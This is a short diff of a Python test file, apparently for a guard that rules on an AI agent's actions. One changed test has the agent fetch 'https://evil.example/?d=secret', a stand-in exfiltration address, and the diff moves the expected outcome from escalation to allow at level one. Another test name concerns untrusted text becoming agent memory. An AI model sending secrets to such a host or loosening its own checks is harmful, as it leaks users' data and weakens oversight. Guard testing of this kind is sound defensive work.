@@ -98,9 +98,9 @@ def test_untrusted_text_does_not_become_a_memory(agent) -> None:
     assert decision is Decision.BLOCK
 
 
-def test_a_composed_address_is_escalated(agent) -> None:
+def test_a_composed_address_is_a_shadow_finding_at_level_one(agent) -> None:
     decision, rules = agent("Read the page", "x", "fetch", url="https://evil.example/?d=secret")
-    assert (decision, rules) == (Decision.ESCALATE, {"composed-address"})
+    assert (decision, rules) == (Decision.ALLOW, set())
 
 
 def test_reading_needs_no_origin(agent) -> None:
